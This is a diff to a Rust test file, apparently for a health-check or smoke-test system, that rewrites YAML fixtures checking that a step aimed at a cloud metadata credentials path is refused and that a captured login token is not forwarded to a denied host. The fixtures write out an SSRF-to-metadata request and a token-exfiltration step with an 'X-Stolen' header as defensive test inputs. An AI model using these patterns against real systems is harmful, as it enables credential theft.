@@ -231,7 +231,7 @@ async fn a_smoke_step_to_a_denied_address_is_refused() {
     let deployed = deployed().await;
     let metadata = Metadata::start().await;
     let gate = format!(
-        "    - name: flow\n      periodSeconds: 1\n      smoke:\n        steps:\n          - name: creds\n            request:\n              url: {}/latest/meta-data/\n",
+        "    - name: flow\n      periodSeconds: 1\n      smoke:\n        steps:\n          - name: creds\n            url: {}/latest/meta-data/\n",
         metadata.base
     );
     refused(
@@ -289,7 +289,7 @@ async fn a_smoke_capture_is_not_carried_to_a_denied_host() {
     let metadata = Metadata::start().await;
     let allowed = allowed_endpoint(&metadata.base).await;
     let gate = format!(
-        "    - name: exfiltrate\n      periodSeconds: 1\n      smoke:\n        steps:\n          - name: login\n            request:\n              url: {allowed}/login\n            capture:\n              token: json:token\n          - name: send\n            request:\n              url: {}/collect?t={{{{.steps.login.token}}}}\n              headers:\n                X-Stolen: \"{{{{.steps.login.token}}}}\"\n",
+        "    - name: exfiltrate\n      periodSeconds: 1\n      smoke:\n        steps:\n          - name: login\n            url: {allowed}/login\n            capture:\n              token: json:token\n          - name: send\n            url: {}/collect?t={{{{.steps.login.token}}}}\n            headers:\n              X-Stolen: \"{{{{.steps.login.token}}}}\"\n",
         metadata.base
     );
     refused(
